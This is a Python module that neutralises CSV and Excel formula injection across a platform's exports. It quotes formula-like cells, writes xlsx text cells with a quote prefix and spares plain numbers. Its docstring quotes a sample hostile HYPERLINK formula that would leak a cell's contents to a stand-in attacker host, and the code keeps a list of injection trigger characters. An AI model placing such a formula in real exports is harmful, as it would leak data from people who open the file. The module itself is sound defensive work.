"""Formula injection (CWE-1236): the one place every CSV and Excel file the platform writes passes through.

A name, reason or code someone typed — `=HYPERLINK("http://evil.example/?x="&A2,"点我")` — must reach a spreadsheet
as the text it is, never as a formula that runs when an office opens the file. The rule, for every cell of every
export (list pages, customers, the night report, the permission register, performance, refused feed lines and the
§12 contract files alike):

- **CSV**: a text cell that begins with `=`, `+`, `-`, `@`, a tab, a carriage return, a line feed or NUL (and
  their full-width forms `＝＋－＠`, which East-Asian input methods type) gets a leading `'`. That is what OWASP's
  CSV-injection page and ASVS 5.0 (1.2.10) recommend: Excel and LibreOffice show the quote but evaluate nothing.
  A tab prefix (the other common advice) is not used: a leading tab is itself on OWASP's list of triggers, and
  spreadsheets that trim whitespace undo it.
- **Excel**: such a cell is written as a text cell (`t="inlineStr"`, never `<f>`) with Excel's "quote prefix"
  style, so the workbook holds exactly the typed text, shows it without a quote, and stays text even when
  someone edits the cell and presses Enter. openpyxl alone would write any string starting with `=` as a formula.
- **Numbers are left alone.** Numbers written as numbers (int, Decimal, float) are numbers; and a text cell that
  is a plain decimal number (`-1234.50`, `+0.25`) is not prefixed — a spreadsheet reads it as that number, which
  is harmless, and a negative amount stays a negative amount for a person and for a §12 consumer.

So a §12 consumer still gets every contract value exactly: ID numbers (digits and X), dates and ISO times
(a digit first), amounts and ratios (plain decimals), status, reason and post codes (letters). Only a value no
contract defines — a staff number or type code that itself begins with `=` or `@` — arrives quoted, which is the
point. `defusedcsv` was considered: it covers CSV only, escapes every `|` inside a value (changing names and
reasons) and does not treat tab, carriage return or NUL; one function for both formats is simpler.

`tests/integration/common/test_export_injection.py` checks every export with a hostile value, and that no module
outside this one makes a `csv.writer` or an openpyxl `Workbook`: writers come from `csv_writer`, workbooks from
`workbook` and are filled with `append_row`.
"""
from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)", re.ASCII)


def is_formula_like(value: Any) -> bool:
    """A text value a spreadsheet could take for a formula (or a DDE call), and not a plain number."""
    return (isinstance(value, str) and value.startswith(TRIGGERS)
            and PLAIN_NUMBER.fullmatch(value) is None)


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: a formula-like text quoted with a leading `'`, anything else unchanged."""
    return "'" + value if is_formula_like(value) else value


def csv_row(row: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in row]


class SafeCsvWriter:
    """`csv.writer` with every cell neutralised: `writerow` / `writerows` as the standard writer."""

    def __init__(self, out, **fmtparams):
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, **fmtparams) -> SafeCsvWriter:
    return SafeCsvWriter(out, **fmtparams)


def xlsx_cell(worksheet, value: Any) -> Any:
    """The value for `worksheet.append`: a formula-like text as an explicit text cell with the quote-prefix
    style (write-only and normal worksheets both accept a `Cell`), anything else unchanged. A control character
    that the xlsx format cannot hold (a name typed with one into a form) becomes U+FFFD: the export still opens,
    and the reader sees that something unprintable stood there, instead of the whole file failing."""
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    if not is_formula_like(value):
        return value
    cell = Cell(worksheet, row=1, column=1, value=value)  # the sheet sets the position when appending
    cell.data_type = "s"  # openpyxl made it a formula ("f") because it starts with "="
    cell.quotePrefix = True
    return cell


def xlsx_row(worksheet, row: Iterable[Any]) -> list[Any]:
    return [xlsx_cell(worksheet, v) for v in row]


def workbook(*, write_only: bool = False) -> Workbook:
    """A new workbook; fill its sheets with `append_row`, never `worksheet.append` of raw values."""
    return Workbook(write_only=write_only)


def append_row(worksheet, row: Iterable[Any]) -> None:
    worksheet.append(xlsx_row(worksheet, row))
